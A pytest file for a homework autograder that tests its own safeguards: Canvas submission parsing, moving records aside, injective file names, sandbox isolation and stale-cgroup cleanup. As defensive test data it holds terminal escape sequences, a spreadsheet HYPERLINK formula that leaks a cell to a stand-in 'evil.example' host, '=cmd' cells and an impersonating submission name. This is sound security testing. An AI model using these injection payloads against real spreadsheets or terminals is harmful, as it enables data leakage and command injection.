"""Every row its own, and the grader's own work bounded: Canvas mode only for a Canvas download, records
moved aside and never deleted, file names and scores keys that no two names share, no student's Canvas entry taken
for another's, no control character and no live formula in any output, fingerprints of content, a refusal that
changes nothing, a killed grader's scratch and cgroups removed by the next run, and no installed copy of the kit in
the sandbox. Each test fails when the guard it names is removed; none but the last grades in a sandbox."""

import csv
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import tempfile
import time
import zipfile
from pathlib import Path

import pytest

from conftest import zip_bytes
from fakes import NB, folder_of as _folder, record, snapshot as _snapshot
from grading import grade, text
from grading.assignment import Assignment, load as load_assignment
from grading.intake import canvas, collect
from grading.judge import session
from grading.outputs import publish, report, results, store
from grading.sandbox import cgroups, isolation

REPO = Path(__file__).resolve().parents[2]
HW = load_assignment()
SANDBOX = isolation.problem() is None


# ------------------------------------------------------------------------------------------------
# A1. Canvas mode only for a Canvas download
# ------------------------------------------------------------------------------------------------
def test_one_entry_named_like_canvas_does_not_make_a_plain_folder_canvas(tmp_path, fake_grading):
    folder = _folder(tmp_path / "subs", ["alice.zip", "bob.zip"])
    out = tmp_path / "out"
    grade.grade(folder, out, quiet=True)
    _folder(folder, ["mallory_1_2_hw2.zip"])  # one student's zip named as Canvas names its entries
    entries, ignored = collect.find(folder)
    assert [n for n, _ in entries] == ["alice", "bob", "mallory_1_2_hw2"] and ignored == []  # guard: every entry
    messages = []
    rows, _ = grade.grade(folder, out, quiet=True, messages=messages)
    assert [r["submission"] for r in rows] == ["alice", "bob", "mallory_1_2_hw2"]
    assert {p.name for p in (out / "records").iterdir()} == {"alice.json", "bob.json", "mallory_1_2_hw2.json"}
    assert not any("Canvas" in m for m in messages)


def _unzipped_download(base, extra=()):
    base.mkdir(parents=True)
    files = {"garcialuis_48213_901_hw2.ipynb": NB, "garcialuis_48213_902_hw2_models.py": "# garcia",
             "leejisoo_LATE_48214_903_hw2.ipynb": NB}
    for name, content in files.items():
        (base / name).write_text(content)
    for name in extra:
        (base / name).mkdir()
    return base


def test_a_folder_all_named_as_canvas_is_read_as_canvas_and_says_so(tmp_path):
    messages = []
    entries, ignored = collect.find(_unzipped_download(tmp_path / "download"), messages=messages)
    assert [n for n, _ in entries] == ["garcialuis_48213", "leejisoo_48214"] and ignored == []
    assert any("as Canvas's Download Submissions" in m and "--canvas" in m for m in messages)


def test_canvas_flag_reads_a_folder_with_other_entries_as_canvas(tmp_path, monkeypatch):
    folder = _unzipped_download(tmp_path / "download", extra=["notes"])
    assert [n for n, _ in collect.find(folder)[0]] == ["garcialuis_48213_901_hw2.ipynb",
                                                       "garcialuis_48213_902_hw2_models.py",
                                                       "leejisoo_LATE_48214_903_hw2.ipynb", "notes"]  # plain
    entries, ignored = collect.find(folder, canvas_mode=True)
    assert [n for n, _ in entries] == ["garcialuis_48213", "leejisoo_48214"] and ignored == ["notes"]
    with pytest.raises(ValueError, match="--canvas: no entry"):
        collect.find(_folder(tmp_path / "plain", ["alice"]), canvas_mode=True)
    seen = {}
    monkeypatch.setattr(grade, "grade", lambda *a, **k: seen.update(k) or ([], []))
    grade.main([str(folder), "--out", str(tmp_path / "out"), "--canvas"])
    assert seen["canvas"] is True  # guard: the --canvas flag reaches grade()
    grade.main([str(folder), "--out", str(tmp_path / "out")])
    assert seen["canvas"] is None


# ------------------------------------------------------------------------------------------------
# A2. Records are moved aside, never deleted
# ------------------------------------------------------------------------------------------------
def test_a_full_run_moves_the_records_of_others_aside(tmp_path, fake_grading):
    out = tmp_path / "out"
    grade.grade(_folder(tmp_path / "first", ["alice", "carol"]), out, quiet=True)
    carol = (out / "records" / "carol.json").read_bytes()
    messages = []
    rows, _ = grade.grade(_folder(tmp_path / "second", ["alice", "bob"]), out, quiet=True, messages=messages)
    assert [r["submission"] for r in rows] == ["alice", "bob"]
    assert sorted(p.name for p in (out / "records").iterdir()) == ["alice.json", "bob.json"]
    assert (out / store.REMOVED / "carol.json").read_bytes() == carol  # guard: store.set_aside (it was unlink)
    assert any("carol" in m and store.REMOVED in m for m in messages)
    grade.grade(_folder(tmp_path / "third", ["alice"]), out, quiet=True)
    store.save(out, record("bob", log="graded once more"))
    (out / "records" / "Alice-0123456789abcdef.json").write_text(json.dumps(record("alice")))  # an older file name
    messages = []
    grade.grade(_folder(tmp_path / "fourth", ["alice"]), out, quiet=True, messages=messages)
    assert len(list((out / store.REMOVED).glob("bob*.json"))) == 2  # a second bob never replaces the first
    assert (out / store.REMOVED / "Alice-0123456789abcdef.json").exists()
    assert any(m.startswith("older copies of the records of alice") for m in messages)


# ------------------------------------------------------------------------------------------------
# A3. One file per name
# ------------------------------------------------------------------------------------------------
def _adversarial_names():
    base = ["Jane Doe", "jane doe", "JANE DOE", "Jane_Doe", "jane_doe", "Jane_Doe-01332c87", "bob", "Bob", "BOB",
            "bob ", " bob", ".bob", "..bob", "bob.", "b.o.b", "b-o-b", "", ".", "..", "_", "-", "__", "x/y", "x\\y",
            "x:y", "=1+2", "'=1+2", "m a", "m_a", "m\ta", "m\na", "Zoë", "Zoe", "Zo_", "Zoe\u0308", "Ωmega", "ωmega",
            "ß", "ss", "SS", "\u212a", "k", "K", "İ", "i̇", "\ud800", "\udc80", "\udcff", "\ufffd", "a" * 80,
            "a" * 81,
            "a" * 200, "a" * 200 + "b", "A" * 80, "a" * 79 + "-", "abc-0123456789abcdef", "abc-0123456789ABCDEF",
            "abc-0123456789abcde", "garcialuis_48213", "anon_Zq9", "\ufffdnnn~12345678", "CON", "nul.txt"]
    names = set(base)
    names |= {n.upper() for n in base} | {n.lower() for n in base} | {n.swapcase() for n in base}
    for _ in range(2):  # each name's own file name, and that one's
        names |= {text.file_name(n) for n in names} | {text.file_name(n).upper() for n in names}
        names |= {text.file_name(n)[:-17] for n in names if len(text.file_name(n)) > 17}
    return sorted(names)


def test_file_names_are_one_per_name_even_on_a_case_insensitive_disk():
    names = _adversarial_names()
    assert len(names) > 500
    made = {name: text.file_name(name) for name in names}
    assert len(set(made.values())) == len(names)  # guard: the hash when the name has the hashed form
    assert len({m.casefold() for m in made.values()}) == len(names)  # guard: the hash when the name has a capital
    for name, made_name in made.items():
        assert re.fullmatch(r"[A-Za-z0-9_.-]+", made_name) and not made_name.startswith("."), (name, made_name)
        assert len(made_name) <= text.FILE_NAME_LIMIT + 17
    assert text.file_name("Jane Doe") != text.file_name(text.file_name("Jane Doe"))
    assert text.file_name("garcialuis_48213") == "garcialuis_48213"  # an ordinary name keeps its own file name
    assert report.file_name is text.file_name


def test_two_names_that_shared_a_file_keep_their_own_records(tmp_path):
    out = tmp_path / "out"
    for name in ["jane doe", "Jane Doe"]:
        first = text.file_name(name)
        for saved in [name, first]:
            store.save(out, record(saved))
        assert {name, first} <= set(store.load(out))


# ------------------------------------------------------------------------------------------------
# A4. Written scores keyed by an identity a spreadsheet keeps
# ------------------------------------------------------------------------------------------------
def test_written_scores_of_names_a_spreadsheet_quotes_alike_stay_apart(tmp_path):
    names = ["=bob", "'=bob", "bob"]
    template = report.scores_template([record(n) for n in names], {}, HW)
    rows = list(csv.reader(template.splitlines()))
    written_parts = [p.name for p in HW.written()]
    assert rows[0] == ["submission", *(f"{n}{kind}" for n in written_parts for kind in ("", "_comment", "_old_score")),
                       *(f"{n}_answer_hash" for n in written_parts), "key"]
    assert [r[0] for r in rows[1:]] == ["'=bob", "'=bob", "bob"]  # the names as a spreadsheet shows them: alike
    assert len({r[-1] for r in rows[1:]}) == 3
    scores = {"=bob": ["1", "2"], "'=bob": ["0", "0"], "bob": ["1", "1"]}
    filled = tmp_path / "written_scores.csv"
    with open(filled, "w", newline="") as handle:
        writer = csv.DictWriter(handle, rows[0], restval="")
        writer.writeheader()
        for row, name in zip(rows[1:], names):
            writer.writerow({"submission": row[0], **dict(zip(written_parts, scores[name])), "key": row[-1]})
    written = results.read_written_scores(filled, set(names), HW)
    assert written == {n: dict(zip(written_parts, map(float, scores[n]))) for n in names}  # guard: the key column
    assert results.read_written_scores(filled, None, HW) == written  # without the names: each key checked against its cell
    old = tmp_path / "old.csv"  # a file written before the key column: read by name, the collapse refused
    old.write_text("submission,hw1_comparison,vae_use_case\n'=bob,1,2\nbob,1,1\n")
    assert results.read_written_scores(old, set(names), HW) == {"=bob": {"hw1_comparison": 1, "vae_use_case": 2},
                                                            "bob": {"hw1_comparison": 1, "vae_use_case": 1}}
    old.write_text("submission,hw1_comparison,vae_use_case\n'=bob,1,2\n'=bob,0,0\n")
    with pytest.raises(ValueError, match="lines 2 and 3 are both for '=bob'"):
        results.read_written_scores(old, set(names), HW)
    stale = tmp_path / "stale.csv"
    stale.write_text("submission,hw1_comparison,vae_use_case,key\nbob,1,1,k000000000000\n")
    with pytest.raises(ValueError, match="has the key 'k000000000000', which is no submission's"):
        results.read_written_scores(stale, set(names), HW)


def test_names_whose_keys_collide_are_refused(tmp_path, monkeypatch):
    filled = tmp_path / "written_scores.csv"
    filled.write_text("submission,hw1_comparison,vae_use_case\nbob,1,1\n")
    monkeypatch.setattr(text, "score_key", lambda name: "k1")
    with pytest.raises(ValueError, match="share the key k1"):
        results.read_written_scores(filled, {"bob", "alice"}, HW)


# ------------------------------------------------------------------------------------------------
# A5. No student's Canvas entry taken for another's
# ------------------------------------------------------------------------------------------------
VICTIM = {"garcialuis_48213_901_hw2.ipynb": NB, "garcialuis_48213_902_hw2_models.py": "# garcia's own"}
ATTACKER = {"mallory_48213_5_99999_903_hw2.ipynb": NB, "mallory_48213_5_99999_904_hw2_models.py": "# mallory's"}
EXPORT = """Student,ID,SIS User ID,SIS Login ID,Section,Homework 2 (48213)
    Points Possible,,,,,15.00
"Garcia, Luis",48213,G001,lgarcia,Design 101,
"Mallory_48213 _5",99999,M009,mallory,Design 101,
"""


def _download(path, files):
    path.write_bytes(zip_bytes(files))
    return path


def _files(group):
    return sorted(e.file + ":" + e.attachment for e, _ in group.files)


def test_a_name_that_holds_a_victims_id_does_not_take_the_victims_place(tmp_path):
    archive = _download(tmp_path / "submissions.zip", {**VICTIM, **ATTACKER})
    messages = []
    entries, ignored = collect.find(archive, messages=messages)
    groups = dict(entries)
    assert list(groups) == ["garcialuis_48213"]  # guard: canvas.assign (the first <digits>_<digits>_ took 48213)
    assert _files(groups["garcialuis_48213"]) == ["hw2.ipynb:901", "hw2_models.py:902"]
    assert sorted(ignored) == sorted(ATTACKER)  # not graded without the export: which id is right is not guessed
    assert any("mallory_48213_5_99999_903_hw2.ipynb" in m and "5 or 99999" in m for m in messages)
    export = canvas.read_export(EXPORT)
    students = {row["ID"]: canvas.download_name(row["Student"]) for row in export.rows}
    assert students == {"48213": "garcialuis", "99999": "mallory_48213_5"}
    groups = dict(collect.find(archive, students=students)[0])
    assert sorted(groups) == ["garcialuis_48213", "mallory_48213_5_99999"]
    assert _files(groups["garcialuis_48213"]) == ["hw2.ipynb:901", "hw2_models.py:902"]
    assert _files(groups["mallory_48213_5_99999"]) == ["hw2.ipynb:903", "hw2_models.py:904"]
    alone = dict(collect.find(_download(tmp_path / "alone.zip", ATTACKER), students=students)[0])
    assert list(alone) == ["mallory_48213_5_99999"]  # with the export, even with no victim there


def test_the_gradebook_decides_and_one_id_never_has_two_names(tmp_path):
    students = {"48213": "garcialuis"}
    named, refused = canvas.assign(["garcialuis_48213_901_hw2.ipynb", "eve_48213_902_hw2.ipynb",
                                    "anon_Zq9_903_hw2.ipynb"], students)
    assert list(named) == ["garcialuis_48213_901_hw2.ipynb", "anon_Zq9_903_hw2.ipynb"]
    assert "no reading of it is a student of the gradebook export" in refused["eve_48213_902_hw2.ipynb"]
    named, refused = canvas.assign(["garcialuis_48213_901_hw2.ipynb", "eve_48213_902_hw2.ipynb"])
    assert named == {} and all("read with two names" in why for why in refused.values())
    assert canvas.download_name("O'Brien-Smith, Ann_12_") == "obriensmithann12"
    assert canvas.download_name("Doe_12_, Jane") == "doe12jane"  # Canvas keeps _<digits>_ out of names
    notes = "doe_jane_48213_901_notes_2024_10_x.ipynb"  # two digits-only tokens in the file's name: two readings
    named, refused = canvas.assign([notes])
    assert named == {} and "pass --gradebook export.csv" in refused[notes]  # not guessed without the export
    named, _ = canvas.assign([notes], {"48213": "doe_jane"})
    assert [e.user for e in named.values()] == ["48213"]


# ------------------------------------------------------------------------------------------------
# A6 and A7. No control character and no live formula in any output
# ------------------------------------------------------------------------------------------------
ESC = "\x1b]0;owned\x07\x1b[2J\x1b[31m"
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def test_control_characters_reach_no_output(tmp_path, monkeypatch, capsys):
    out = tmp_path / "out"
    hostile = record("mallory_48215", "48215", problems=[f"odd {ESC}problem"], notes=[f"\u202etxt.exe{ESC}"],
                     log=f"printed {ESC}\r\nline\tTAB", answers={"hw1_comparison": f"answer {ESC}\nsecond line"})
    hostile["results"][0].update(passed=False, message=f"check {ESC} failed")
    export = canvas.read_export(EXPORT.replace('"Mallory_48213 _5",99999', f'"Moreau{ESC}, Ana",48215'))
    rows, messages = publish.write(out, [hostile, record("bob")], {}, {"timeout": 60},
                                   (export, export.assignments[0]), ignored=[f"junk{ESC}.pdf"], assignment=HW)
    written = [p for p in out.rglob("*") if p.is_file() and p.parts[-2] != "records" and p.suffix != ".zip"]
    assert {p.name for p in written} >= {"grades.csv", "summary.html", "canvas_import.csv", "mallory_48215.html",
                                         "mallory_48215.txt", "written_hw1_comparison.html"}
    for path in written:
        found = CONTROL.findall(path.read_text(encoding="utf-8"))
        assert not found, (path.name, found)  # guard: text.clean in write_text and csv_text
    assert "printed ]0;owned" in (out / "logs" / "mallory_48215.txt").read_text()  # the text stays, its controls go
    assert "line\tTAB" in (out / "logs" / "mallory_48215.txt").read_text()
    with zipfile.ZipFile(out / "feedback_for_canvas.zip") as archive:
        assert not any(CONTROL.search(archive.read(n).decode()) for n in archive.namelist())
    assert not any(CONTROL.search(r["status"]) for r in rows)
    monkeypatch.setattr(grade, "grade", lambda *a, messages, **k: messages.append(f"named {ESC}") or ([], []))
    grade.main([str(tmp_path), "--out", str(out)])
    printed = capsys.readouterr()
    assert "named" in printed.out and not CONTROL.search(printed.out + printed.err)  # guard: clean in main
    monkeypatch.setattr(grade, "grade", lambda *a, **k: (_ for _ in ()).throw(ValueError(f"bad {ESC}")))
    with pytest.raises(SystemExit):
        grade.main([str(tmp_path), "--out", str(out)])
    assert not CONTROL.search(capsys.readouterr().err)


def test_the_canvas_import_has_no_live_formula_and_keeps_canvas_ids(tmp_path):
    export = canvas.read_export(
        "Student,ID,SIS User ID,SIS Login ID,Section,Homework 2 (48213)\n"
        "    Points Possible,,,,,15.00\n"
        '"=HYPERLINK(""http://evil.example/?""&A1,""click"")",48213,+1,@login,-Section,\n'
        "\t=cmd,48214,G2,g2,Design 101,\n"
        "\x1b=cmd,48215,G3,g3,Design 101,\n")
    text_out = canvas.import_text(export, "Homework 2 (48213)", {"48213": 14.5, "48214": 3}, 15)
    rows = list(csv.reader(text_out.splitlines()))
    assert rows[2] == ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "48213", "'+1", "'@login", "'-Section",
                       "14.5"]  # guard: csv_text in import_text (the export's cells were copied as they were)
    assert rows[3][:2] == ["'\t=cmd", "48214"] and rows[3][-1] == "3"
    assert rows[4][:2] == ["'=cmd", "48215"]  # guard: cleaned before escaped (an ESC first hid the formula)
    for bad in ["=1+1", "48 213", ""]:
        with pytest.raises(canvas.GradebookError, match="numeric user id"):
            canvas.read_export(f"Student,ID,SIS User ID,SIS Login ID,Section,HW\nBob,{bad},,,,\n")


# ------------------------------------------------------------------------------------------------
# A8. The fingerprint is the content's
# ------------------------------------------------------------------------------------------------
def _same_size_and_time(path, content):
    info = path.stat()
    assert len(content) == info.st_size
    path.write_bytes(content)
    os.utime(path, ns=(info.st_atime_ns, info.st_mtime_ns))


def test_a_change_of_content_changes_the_fingerprint_whatever_its_size_and_time(tmp_path):
    folder = _folder(tmp_path / "subs", ["alice", "bob.zip"])
    (folder / "alice" / "hw2_models.py").write_text("x = 1\n")
    before = {n: collect.fingerprint(e) for n, e in collect.find(folder)[0]}
    _same_size_and_time(folder / "alice" / "hw2_models.py", b"x = 2\n")
    data = bytearray((folder / "bob.zip").read_bytes())
    at = data.index(b"# bob.zip")
    data[at:at + 9] = b"# BOB.ZIP"
    _same_size_and_time(folder / "bob.zip", bytes(data))
    after = {n: collect.fingerprint(e) for n, e in collect.find(folder)[0]}
    assert all(before[n] != after[n] for n in before)  # guard: the sha256 of the bytes (was: size and mtime)
    download = _unzipped_download(tmp_path / "download")
    before = dict(collect.find(download)[0])
    first = {n: collect.fingerprint(g) for n, g in before.items()}
    _same_size_and_time(download / "garcialuis_48213_902_hw2_models.py", b"# GARCIA")
    assert {n: collect.fingerprint(g) for n, g in collect.find(download)[0]} != first


# ------------------------------------------------------------------------------------------------
# A9. A refusal changes nothing in --out
# ------------------------------------------------------------------------------------------------
def test_a_refusal_changes_nothing_in_out(tmp_path, fake_grading, monkeypatch):
    out = tmp_path / "out"
    grade.grade(_folder(tmp_path / "subs", ["alice", "bob.zip"]), out, quiet=True)
    before = _snapshot(out)
    assert "grades.csv" in before and "records/alice.json" in before
    scores = tmp_path / "scores.csv"
    scores.write_text("submission,hw1_comparison,vae_use_case\nnobody,1,1\n")
    bad_book = tmp_path / "book.csv"
    bad_book.write_text("name,score\n")
    colliding = _folder(tmp_path / "colliding", ["Bob.zip", "bob.zip"])
    refusals = [({"submissions_folder": colliding}, "cannot tell"),
                ({"only": ["nobody"]}, "not a submission"),
                ({"written_scores": scores}, "not a submission"),
                ({"gradebook": bad_book}, "not a Canvas gradebook export"),
                ({"late_penalty": 2.0}, "late-penalty")]
    for change, says in refusals:
        arguments = {"submissions_folder": tmp_path / "subs", "out": out, "quiet": True, **change}
        with pytest.raises(ValueError, match=says):
            grade.grade(**arguments)
        assert _snapshot(out) == before, change  # guard: report.clear after every check (it ran first)
    monkeypatch.setattr(Assignment, "prepare_data",
                        lambda self: (_ for _ in ()).throw(RuntimeError("MNIST damaged")))
    with pytest.raises(RuntimeError, match="MNIST damaged"):
        grade.grade(tmp_path / "subs", out, quiet=True)
    monkeypatch.setattr(grade.isolation, "problem", lambda: "no bwrap here")
    with pytest.raises(RuntimeError, match="no bwrap here"):
        grade.grade(tmp_path / "subs", out, quiet=True)
    assert _snapshot(out) == before


# ------------------------------------------------------------------------------------------------
# C. What a killed grader leaves behind is removed by the next run
# ------------------------------------------------------------------------------------------------
KILLED = '''
import os, subprocess, sys, time
from grading.sandbox import isolation
from grading.sandbox.cgroups import Cgroup, owner_tag
scratch = isolation.scratch_folder()
(scratch / "00000" / "in").mkdir(parents=True)
(scratch / "00000" / "in" / "hw2.ipynb").write_text("{}")
group = Cgroup.create(f"s{owner_tag()}-1", processes=8)
sleeper = subprocess.Popen(["sleep", "4243.5"], preexec_fn=group.join if group else None)
print(scratch, group.folders[0] if group else "", sleeper.pid, flush=True)
time.sleep(600)
'''


def test_a_killed_graders_scratch_and_cgroups_are_removed_by_the_next_run(tmp_path, monkeypatch, fake_grading):
    temporary = tmp_path / "tmp"
    temporary.mkdir()
    env = dict(os.environ, TMPDIR=str(temporary), PYTHONPATH=str(REPO))
    killed = subprocess.Popen([sys.executable, "-c", KILLED], stdout=subprocess.PIPE, text=True, env=env)
    scratch, group, sleeper = killed.stdout.readline().split(" ")
    scratch, sleeper = Path(scratch), int(sleeper)
    killed.send_signal(signal.SIGKILL)
    killed.wait()
    assert scratch.parent == temporary and scratch.name.startswith(f"{isolation.SCRATCH}{killed.pid}.")
    monkeypatch.setattr(tempfile, "tempdir", str(temporary))
    alive = isolation.scratch_folder()  # this process's own: a live grader's scratch is never touched
    not_a_tag = temporary / f"{isolation.SCRATCH}abcdefgh"
    not_a_tag.mkdir()
    grade.grade(_folder(tmp_path / "subs", ["alice"]), tmp_path / "out", quiet=True)
    assert not scratch.exists()  # guard: isolation.remove_stale at the start of a run
    assert alive.exists() and not_a_tag.exists()
    if group:
        assert not Path(group).exists()
        time.sleep(0.2)
        state = Path(f"/proc/{sleeper}/stat")
        assert not state.exists() or state.read_text().rsplit(")", 1)[1].split()[0] in "ZX"
    else:
        os.kill(sleeper, signal.SIGKILL)


def test_owner_tags_tell_a_reused_pid_from_its_owner():
    tag = cgroups.owner_tag()
    assert cgroups.owner_alive(tag) and cgroups.tag_of(f"s{tag}-99", "s") == tag
    pid, _, start = tag.partition(".")
    assert not cgroups.owner_alive(f"{pid}.{int(start) + 1}")  # another process with the same pid
    assert cgroups.tag_of("hw2-grading-x1y2", "hw2-grading-") is None


# ------------------------------------------------------------------------------------------------
# D. No installed copy of the kit in the sandbox
# ------------------------------------------------------------------------------------------------
PROBE = r'''
import importlib, json, os, sys
found = {}
for name in ["hw2_models", "grading.judge", "grading.checks", "hw2_helpers.checks", "numpy", "torch"]:
    try:
        importlib.import_module(name)
        found[name] = "imported"
    except Exception as error:
        found[name] = type(error).__name__
solved = []
for folder in [p for p in sys.path if p.endswith("-packages")]:
    paths = [os.path.join(folder, n) for n in os.listdir(folder) if n.startswith("hw2_models")]
    for sub in ["__pycache__", "grading", "hw2_helpers"]:
        for root, dirs, files in os.walk(os.path.join(folder, sub)):
            paths += [os.path.join(root, n) for n in files]
    for path in paths:
        try:
            if b"LeNet_5" in open(path, "rb").read():
                solved.append(path)
        except OSError:
            pass
found["solved files"] = solved
try:
    import casekit
    found["casekit"] = casekit.__file__
except Exception as error:
    found["casekit"] = type(error).__name__
print("PROBE " + json.dumps(found))
'''


def _probe(log):
    return json.loads(next(line for line in log.splitlines() if line.startswith("PROBE "))[6:])


def _fake_install(site):
    """What a non-editable ``pip install .`` puts in a site-packages folder, and a third-party package beside it."""
    (site / "grading" / "judge").mkdir(parents=True)
    (site / "grading" / "__init__.py").write_text("")
    (site / "grading" / "judge" / "__init__.py").write_text("class LeNet_5: pass\n")
    (site / "hw2_helpers").mkdir()
    (site / "hw2_helpers" / "checks.py").write_text("class LeNet_5: pass\n")
    (site / "hw2_models.py").write_text("class LeNet_5: pass\n")
    (site / "__pycache__").mkdir()
    (site / "__pycache__" / "hw2_models.cpython-311.pyc").write_bytes(b"LeNet_5")
    (site / "hw2_lenet_autoencoders-1.0.0.dist-info").mkdir()
    (site / "hw2_lenet_autoencoders-1.0.0.dist-info" / "RECORD").write_text("hw2_models.py,,\n")
    (site / "renamed-2.0.dist-info").mkdir()
    (site / "renamed-2.0.dist-info" / "top_level.txt").write_text("grading\nhw2_models\n")
    (site / "numpy").mkdir()
    (site / "numpy" / "__init__.py").write_text("")


@pytest.fixture
def reachable():
    """Folders any user can reach (a sandbox's fresh uid cannot enter pytest's own), removed after the test."""
    made = []

    def make(prefix="tmp"):
        made.append(Path(tempfile.mkdtemp(prefix=f"{prefix}-")))
        os.chmod(made[-1], 0o755)
        return made[-1]

    yield make
    for folder in made:
        shutil.rmtree(folder, ignore_errors=True)


@pytest.mark.skipif(not SANDBOX, reason="no working bubblewrap here")
def test_start_child_hides_an_installed_copy_of_the_kit(tmp_path, monkeypatch, reachable):
    prefix = reachable("prefix")  # where the sandbox's user can reach it, as an installation is
    site = prefix / "lib" / "python3.11" / "site-packages"
    site.mkdir(parents=True)
    _fake_install(site)
    monkeypatch.setattr(sys, "prefix", str(prefix))
    started, real = {}, isolation.start

    def start(command, mounts, env, workdir, **options):
        started.update(command=command, mounts=mounts, options=options)
        env = {**env, "PYTHONPATH": f"{env['PYTHONPATH']}:{site}"}  # the installed copy on the child's path
        return real([os.path.realpath(sys.executable), "-S", "-c", PROBE], mounts, env, workdir, stdout_to_log=True,
                    **options)

    monkeypatch.setattr(isolation, "start", start)
    (tmp_path / "in").mkdir()
    with session.start_child(tmp_path / "in", {"data": str(REPO / "data"), "threads": 1}, reachable(), HW) as box:
        box.wait(60)
    hidden = dict(started["options"]["hidden"])
    assert {str(site / n) for n in ["grading", "hw2_helpers", "hw2_models.py", "hw2_lenet_autoencoders-1.0.0.dist-info",
                                    "renamed-2.0.dist-info", "__pycache__/hw2_models.cpython-311.pyc"]} <= set(hidden)
    assert str(site / "numpy") not in hidden
    found = _probe(box.log())  # guard: python_mounts' hidden list, covered by start
    assert found["solved files"] == [] and found["hw2_models"] == "ImportError", found
    assert found["grading.judge"] == found["hw2_helpers.checks"] == "ModuleNotFoundError"
    assert found["numpy"] == "imported"


@pytest.mark.skipif(not SANDBOX, reason="no working bubblewrap here")
def test_a_checkout_inside_the_python_installation_is_hidden_whole(tmp_path):
    prefix = tmp_path / "conda"
    site = prefix / "lib" / "python3.11" / "site-packages"
    site.mkdir(parents=True)
    checkout = prefix / "work" / "hw2"
    (checkout / "grading").mkdir(parents=True)
    (checkout / "pyproject.toml").write_text("[project]\nname = 'kit'\n")  # what makes a folder a checkout of the kit
    mounts, hidden = isolation.python_mounts([prefix], [str(site), str(checkout)], checkout=checkout)
    assert [m[0] for m in mounts] == [prefix.resolve()]
    assert hidden == [(str(checkout.resolve()), "dir")]  # guard: the checkout hidden whole (its solved files)
    assert isolation.python_mounts([prefix], [str(site)], checkout=site)[1] == []  # an install is no checkout


@pytest.mark.skipif(not SANDBOX, reason="no working bubblewrap here")
@pytest.mark.slow
def test_a_non_editable_install_is_hidden_in_the_sandbox(reachable):
    """A real ``pip install`` (not editable) of the kit into a fresh environment, whose grader starts a child (SLOW:
    about 35 s on 2 cores, a venv, a wheel, and torch imported in the grader and in the sandbox)."""
    base = reachable("kit-install")
    source = base / "src"
    source.mkdir()
    for name in ["pyproject.toml", "hw2_models.py"]:
        (source / name).write_bytes((REPO / name).read_bytes())
    for name in ["grading", "casekit", "hw2_helpers"]:
        shutil.copytree(REPO / name, source / name, ignore=shutil.ignore_patterns("__pycache__"))
    base_python = Path(sys.base_prefix) / "bin" / "python3"
    subprocess.run([str(base_python), "-m", "venv", "--system-site-packages", str(base / "venv")], check=True)
    subprocess.run([sys.executable, "-m", "pip", "wheel", "-q", "--no-deps", "--no-build-isolation", "--no-index",
                    str(source), "-w", str(base / "wheels")], check=True, capture_output=True)
    venv_python = base / "venv" / "bin" / "python"
    subprocess.run([str(venv_python), "-m", "pip", "install", "-q", "--no-deps", "--no-index",
                    *map(str, (base / "wheels").glob("*.whl"))], check=True, capture_output=True)
    site = Path(subprocess.run([str(venv_python), "-c", "import site; print(site.getsitepackages()[0])"],
                               capture_output=True, text=True, check=True).stdout.strip())
    assert (site / "hw2_models.py").exists() and (site / "grading" / "judge" / "session.py").exists()
    import site as this_site

    (site / "third_party.pth").write_text("\n".join(this_site.getsitepackages()) + "\n")  # torch, from this one
    workdir = reachable()
    (base / "in").mkdir()
    script = f'''
import sys
import grading
assert grading.__file__.startswith({str(site)!r}), grading.__file__  # the installed copy grades
from grading.sandbox import isolation
from grading.judge import session
real = isolation.start
isolation.start = lambda command, mounts, env, workdir, **options: real(
    [sys.executable, "-c", {PROBE!r}], mounts, env, workdir, stdout_to_log=True, **options)
options = {{"data": {str(REPO / "data")!r}, "threads": 1}}
from grading import assignment
with session.start_child({str(base / "in")!r}, options, {str(workdir)!r}, assignment.load()) as box:
    box.wait(120)
print(box.log())
'''
    ran = subprocess.run([str(venv_python), "-c", script], capture_output=True, text=True, cwd=base, timeout=300,
                         env={k: v for k, v in os.environ.items() if k != "PYTHONPATH"})
    assert ran.returncode == 0, ran.stderr[-3000:]
    found = _probe(ran.stdout)
    assert found["torch"] == "imported", found
    assert found["hw2_models"] == "ImportError" and found["solved files"] == [], found  # guard: hidden in start_child
    assert found["grading.judge"] == found["grading.checks"] == "ModuleNotFoundError", found
    assert (site / "casekit" / "kernel.py").exists() and found["casekit"] == "/grader/casekit/__init__.py", found
